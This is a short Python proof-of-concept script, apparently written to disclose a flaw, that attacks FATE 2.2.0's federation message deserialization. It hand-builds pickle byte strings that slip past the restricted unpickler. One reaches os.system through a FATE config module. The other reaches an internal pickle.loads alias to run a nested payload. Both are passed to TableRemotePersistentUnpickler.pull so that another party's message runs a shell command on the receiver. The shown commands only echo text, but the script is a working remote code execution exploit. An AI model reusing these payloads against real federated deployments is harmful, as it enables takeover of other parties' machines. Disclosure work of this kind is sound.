"""FATE 2.2.0 with its default settings: a message of another party runs a command at its receiver."""

import struct

from fate.arch.config import cfg
from fate.arch.federation.api import TableRemotePersistentUnpickler


def text(value):
    return b"\x8c" + bytes([len(value)]) + value.encode()


# Pickle's instruction 0x93 takes names with dots. The module is one of FATE's own, all of which are let in.
message = b"\x80\x04" + text("fate.arch.config._config") + text("os.system") + b"\x93"
message += text("echo a message ran this command") + b"\x85R."

# Without a dot: one of these modules has `pickle.loads`, under the name `p_loads`.
inside = b"cos\nsystem\n(S'echo a second message ran this command'\ntR."
second = b"\x80\x04" + text("fate.arch.computing.serdes._serdes_base") + text("p_loads") + b"\x93"
second += b"C" + bytes([len(inside)]) + inside + b"\x85R."

print("safety.serdes.federation.restricted_type:", cfg.safety.serdes.federation.restricted_type, flush=True)
for each in (message, second):
    TableRemotePersistentUnpickler.pull(struct.pack("!B", 0) + each, None, None, "name", "tag", ("guest", "9999"))
